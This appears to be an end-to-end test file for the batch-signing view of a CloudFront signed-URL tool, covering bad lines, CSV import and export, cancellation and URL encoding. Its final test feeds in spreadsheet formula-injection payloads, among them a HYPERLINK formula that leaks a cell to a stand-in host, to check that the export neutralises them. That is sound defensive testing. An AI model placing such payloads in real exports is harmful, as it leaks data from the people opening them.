import { readFileSync } from 'node:fs';
import { verifySignedUrl } from './cloudfront.ts';
import {
  DISTRIBUTION,
  KEY_PAIR_ID,
  openView,
  pasteInto,
  pasteKey,
  visiblePanel,
} from './helpers.ts';
import { keyText } from './keys.ts';
import { clipboardText, dropFile, expect, test } from './page.ts';

const BAD_LINE = 501;
const urls = Array.from({ length: 1000 }, (_, i) =>
  i + 1 === BAD_LINE
    ? 'not a url at all'
    : `${DISTRIBUTION}/photos/${String(i + 1).padStart(4, '0')}.jpg`,
);

test('a batch of 1,000 URLs with one bad line: 999 signed, the bad one reported by line number, CSV and Copy all', async ({
  signet,
}) => {
  test.setTimeout(60_000);
  await pasteKey(signet);
  await openView(signet, 'Batch');
  const panel = visiblePanel(signet);
  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
  await pasteInto(signet, panel.getByLabel('URLs to sign'), urls.join('\n'));
  await expect(panel.locator('#batch-count')).toHaveText('1000 URLs');

  await panel.getByRole('button', { name: 'Sign 1000 URLs' }).click();
  await expect(panel.locator('#batch-summary')).toHaveText('999 signed, 1 refused.', {
    timeout: 30_000,
  });
  await expect(panel.locator('#batch-progress')).toHaveJSProperty('value', 1000);
  const errors = panel.locator('#batch-errors li');
  await expect(errors).toHaveCount(1);
  await expect(errors).toContainText(`Line ${BAD_LINE}: not a url at all`);

  const download = signet.waitForEvent('download');
  await panel.getByRole('button', { name: 'Download CSV' }).click();
  const csv = readFileSync(await (await download).path(), 'utf8')
    .trimEnd()
    .split('\r\n');
  expect(csv[0]).toBe('line,url,signed_url,error');
  expect(csv).toHaveLength(1001);
  const publicKey = keyText('rsa-2048-public.pem');
  for (const row of [csv[1], csv[500], csv[1000]]) {
    const [line, url, signed] = (row ?? '').split(',');
    expect(url).toBe(urls[Number(line) - 1]);
    expect(verifySignedUrl(signed ?? '', publicKey)).toBe(true);
  }
  expect(csv[BAD_LINE]).toMatch(/^501,not a url at all,,/);

  await panel.getByRole('button', { name: 'Copy all signed URLs' }).click();
  const copied = (await clipboardText(signet)).split('\n');
  expect(copied).toHaveLength(999);
  expect(verifySignedUrl(copied[998] ?? '', publicKey)).toBe(true);
});

test('a dropped CSV is read by its url column, with line numbers counted from the header', async ({
  signet,
}) => {
  await pasteKey(signet);
  await openView(signet, 'Batch');
  const panel = visiblePanel(signet);
  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
  const csv = `name,url\nfirst,${DISTRIBUTION}/a.jpg\nsecond,"${DISTRIBUTION}/b c.jpg"\nthird,${DISTRIBUTION}/c.jpg\n`;
  await dropFile(signet, { name: 'list.csv', bytes: csv, type: 'text/csv' }, '#batch-list');
  await expect(panel.locator('#batch-count')).toHaveText('3 URLs from the url column');
  // The drop went to the list, not to the key: the loaded key is still there.
  await expect(signet.locator('#key-fingerprint')).toBeVisible();

  await panel.getByRole('button', { name: 'Sign 3 URLs' }).click();
  await expect(panel.locator('#batch-summary')).toHaveText('2 signed, 1 refused.');
  await expect(panel.locator('#batch-errors li')).toContainText('Line 3:');
});

test('a batch can be cancelled part way, keeping what was signed', async ({ signet }) => {
  await pasteKey(signet);
  await openView(signet, 'Batch');
  const panel = visiblePanel(signet);
  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
  const many = Array.from({ length: 5_000 }, (_, i) => `${DISTRIBUTION}/${i}.jpg`);
  await pasteInto(signet, panel.getByLabel('URLs to sign'), many.join('\n'));
  await panel.getByRole('button', { name: 'Sign 5000 URLs' }).click();
  await panel.getByRole('button', { name: 'Cancel' }).click();
  await expect(panel.locator('#batch-summary')).toContainText('then cancelled');
  const text = (await panel.locator('#batch-summary').textContent()) ?? '';
  expect(Number(text.split(' ')[0])).toBeLessThan(5_000);
});

test('refused lines are grouped by reason with counts, the first few shown, and the lines that encoding fixes are encoded and signed in one go', async ({
  signet,
}) => {
  await pasteKey(signet);
  await openView(signet, 'Batch');
  const panel = visiblePanel(signet);
  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
  const spaced = Array.from({ length: 5 }, (_, i) => `${DISTRIBUTION}/my photo ${i}.jpg`);
  const list = [`${DISTRIBUTION}/ok.jpg`, ...spaced, 'not a url', 'also not a url'];
  await panel.getByLabel('URLs to sign').fill(list.join('\n'));
  await panel.getByRole('button', { name: 'Sign 8 URLs' }).click();
  await expect(panel.locator('#batch-summary')).toHaveText('1 signed, 7 refused.');

  const groups = panel.locator('#batch-errors .group');
  await expect(groups).toHaveCount(2);
  await expect(groups.nth(0).locator('h4')).toHaveText(
    'Characters a browser would send differently 5 lines',
  );
  await expect(groups.nth(1).locator('h4')).toHaveText('Not a URL 2 lines');
  // Beyond the first three, lines wait behind "more".
  await expect(groups.nth(0).locator('li:visible')).toHaveCount(3);
  await expect(groups.nth(0).locator('summary')).toHaveText('2 more');

  await groups.nth(0).getByRole('button', { name: 'Encode these 5 lines and sign them' }).click();
  await expect(panel.locator('#batch-summary')).toHaveText('6 signed, 2 refused.');
  const download = signet.waitForEvent('download');
  await panel.getByRole('button', { name: 'Download CSV' }).click();
  const rows = readFileSync(await (await download).path(), 'utf8')
    .trimEnd()
    .split('\r\n');
  const publicKey = keyText('rsa-2048-public.pem');
  const [line, url, signed] = (rows[3] ?? '').split(',');
  expect(line).toBe('3');
  expect(url).toBe(`${DISTRIBUTION}/my%20photo%201.jpg`);
  expect(verifySignedUrl(signed ?? '', publicKey)).toBe(true);
});

test('the CSV neutralises cells a spreadsheet would run as formulas, as OWASP advises', async ({
  signet,
}) => {
  await pasteKey(signet);
  await openView(signet, 'Batch');
  const panel = visiblePanel(signet);
  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
  const formulas = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
  ];
  await panel.getByLabel('URLs to sign').fill([`${DISTRIBUTION}/a.jpg`, ...formulas].join('\n'));
  await panel.getByRole('button', { name: 'Sign 6 URLs' }).click();
  await expect(panel.locator('#batch-summary')).toHaveText('1 signed, 5 refused.');
  const download = signet.waitForEvent('download');
  await panel.getByRole('button', { name: 'Download CSV' }).click();
  const csv = readFileSync(await (await download).path(), 'utf8');
  for (const formula of formulas) {
    const trimmed = formula.trim();
    expect(csv).toContain(`"'${trimmed.replaceAll('"', '""')}"`);
  }
  // No cell, quoted or not, starts with a formula character.
  for (const cell of csv.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
    expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
  }
});
